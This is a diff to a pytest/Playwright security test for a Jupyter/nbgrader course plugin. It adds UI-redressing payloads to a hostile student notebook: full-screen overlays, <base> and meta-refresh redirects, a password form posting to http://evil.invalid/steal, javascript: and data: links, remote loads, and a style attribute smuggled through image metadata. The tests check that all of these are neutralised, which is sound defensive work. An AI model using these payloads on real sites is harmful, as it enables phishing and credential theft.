@@ -5,7 +5,15 @@ The attacker's notebook carries scripts where a notebook can: a markdown cell, t
 instructor grades by hand, and the HTML, SVG and JavaScript outputs of a code cell. Each payload sets
 `window.__pwned` and tries to change the grade through the formgrader's API; the test looks in the page
 and in the gradebook.
+
+It also tries to redress both pages (REDRESS): to lay its own content over the page (an image whose size
+metadata adds a style, inline styles and a page class that position), to send the instructor elsewhere
+(`<base>`, `<meta http-equiv=refresh>`, a form with a password field sent to another site, `javascript:`
+and `data:` links, a plain phishing link) and to load remote images. Nothing it lays out is positioned,
+the page stays where it is, no request leaves for another site, and every link it shows is marked as the
+student's, with its address (course/plugins/pages.py).
 """
+import re
 import shutil
 import time
 
@@ -33,6 +41,30 @@ display(Javascript("window.__pwned = 1"))
 print("visible output")
 '''
 
+EVIL = "http://evil.invalid"  # nothing may reach it (or try to)
+OVER_THE_PAGE = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999"
+REDRESS_MARKDOWN = f"""## Redress
+
+![remote]({EVIL}/markdown.png) [phishing link]({EVIL}/login) [js link](javascript:window.__pwned=1) [data link](data:text/html,x)
+
+<div style="{OVER_THE_PAGE}" class="navbar-fixed-top">Your score: 100 / 100</div>
+<style>@import url({EVIL}/x.css); .cell {{ display: none }}</style>
+<base href="{EVIL}/">
+<meta http-equiv="refresh" content="0;url={EVIL}/">
+<form action="{EVIL}/steal"><input type="password" name="password"><button>Log in</button></form>
+<img src="{EVIL}/tag.png">
+"""
+PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+REDRESS_OUTPUTS = f'''
+from IPython.display import HTML, Markdown, display
+display({{"image/png": {PNG!r}}}, raw=True, metadata={{
+    "image/png": {{"width": "1 style={OVER_THE_PAGE} id=redress-image", "height": 1}},
+    "filenames": {{"image/png": "{EVIL}/filename.png"}}}})
+display(HTML('<div style="{OVER_THE_PAGE}" class="navbar-fixed-top">Your score: 100</div>'
+             '<a href="{EVIL}/login">log in again</a> <a href="data:text/html,x">data link</a>'))
+display(Markdown("![remote]({EVIL}/output.png) [phishing output link]({EVIL}/output)"))
+'''
+
 
 @pytest.fixture(scope="module")
 def graded(tmp_path_factory):
@@ -46,6 +78,8 @@ def graded(tmp_path_factory):
     imports = next(i for i, c in enumerate(notebook.cells) if classroom.grade_id(c) == "imports")
     notebook.cells.insert(imports + 1, new_markdown_cell("# My notes\n\n" + PAYLOAD))
     notebook.cells.insert(imports + 2, new_code_cell(OUTPUTS.strip()))
+    notebook.cells.insert(imports + 3, new_markdown_cell(REDRESS_MARKDOWN))
+    notebook.cells.insert(imports + 4, new_code_cell(REDRESS_OUTPUTS.strip()))
     classroom.submit(root, ASSIGNMENT, ATTACKER, notebook)
     classroom.nbgrader(root, "autograde", ASSIGNMENT)
     classroom.nbgrader(root, "generate_feedback", ASSIGNMENT, "--RequireHandGrading.allow_ungraded=True")
@@ -56,7 +90,7 @@ def assert_nothing_ran(page):
     page.wait_for_timeout(1500)  # onload, onerror and ontoggle fire as the page settles
     links = page.locator("#js-link")
     if links.count():
-        links.first.click()
+        links.first.dispatch_event("click")  # under anything laid over it (the sanitiser off)
         page.wait_for_timeout(300)
     assert page.evaluate("() => window.__pwned") is None
 
@@ -72,13 +106,47 @@ def assert_nothing_active_left(page):
     assert page.locator(".cell iframe, .cell script").count() == 0
 
 
+def watch_for_other_sites(page) -> list:
+    """Every request the page makes to another site (refused, so the test never depends on a network)."""
+    tried = []
+    page.route(f"{EVIL}/**", lambda route: (tried.append(route.request.url), route.abort()))
+    return tried
+
+
+def assert_not_redressed(page, tried: list):
+    """Nothing of the submission laid over the page, led it elsewhere or loaded from another site; its links
+    marked as the student's."""
+    address = page.url
+    page.wait_for_timeout(1500)  # a <meta refresh> of 0 s would have left by now
+    assert page.url == address and page.evaluate("() => document.baseURI") == address
+    shown = ".rendered_html, .output_subarea"  # where a submission's cells and outputs are laid out
+    positioned = page.evaluate(f"""() => [...document.querySelectorAll('{shown}')]
+        .flatMap(area => [area, ...area.querySelectorAll('*')])
+        .filter(e => getComputedStyle(e).position !== 'static' || e.hasAttribute('style') && !/^text-align/.test(e.getAttribute('style')))
+        .map(e => e.outerHTML.slice(0, 160))""")
+    assert positioned == []
+    assert page.locator(f"#redress-image, base, :is({shown}) :is(form, input, button, style)").count() == 0
+    remote = page.evaluate("() => [...document.querySelectorAll('.cell img[src]')].map(i => i.src).filter(s => !s.startsWith('data:'))")
+    assert remote == [] and tried == []
+    links = page.evaluate(f"""() => [...document.querySelectorAll('.cell :is({shown}) a[href]:not(.anchor-link)')]
+        .map(a => [a.getAttribute('href'), getComputedStyle(a, '::after').content])""")
+    assert any(href.startswith(f"{EVIL}/login") for href, _ in links), links
+    for href, mark in links:
+        assert href.startswith(("http:", "https:", "mailto:")), href
+        assert "学生提供的链接" in mark and href in mark, (href, mark)
+    policy = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
+    assert "base-uri 'none'" in policy and re.search(r"form-action '(self|none)'", policy), policy
+
+
 def test_the_feedback_page_runs_nothing_of_the_submission_and_stays_readable(graded, page):
     path = classroom.notebook_path(graded, "feedback", ASSIGNMENT, ATTACKER).with_suffix(".html")
     html = path.read_text("utf-8")
     assert "Content-Security-Policy" in html
+    tried = watch_for_other_sites(page)
     page.goto(path.as_uri())
     assert_nothing_ran(page)
     assert_nothing_active_left(page)
+    assert_not_redressed(page, tried)
     assert page.get_by_text("visible words").count() >= 1
     assert page.get_by_text("visible output").count() >= 1
 
@@ -110,6 +178,7 @@ def test_the_formgrader_view_of_the_submission_runs_nothing_and_grades_stay(grad
                 request.method != "GET" else None)
         page.on("console", lambda message: refused.append(message.text)
                 if "Content Security Policy" in message.text else None)
+        tried = watch_for_other_sites(page)
         page.goto(f"{server['url']}/formgrader/submissions/{submission}/?token={server['token']}")
         # nbgrader's own scripts ran to the end of their start-up (keyboard shortcuts included)
         page.wait_for_function("() => formgrader.loaded && formgrader.grades.loaded && formgrader.comments.loaded",
@@ -120,6 +189,7 @@ def test_the_formgrader_view_of_the_submission_runs_nothing_and_grades_stay(grad
             assert refused, "the policy refused nothing"
         else:
             assert_nothing_active_left(page)
+            assert_not_redressed(page, tried)
             assert refused == []  # nothing of nbgrader's own page is refused
         assert page.get_by_text("visible words").count() >= 1
         time.sleep(1)
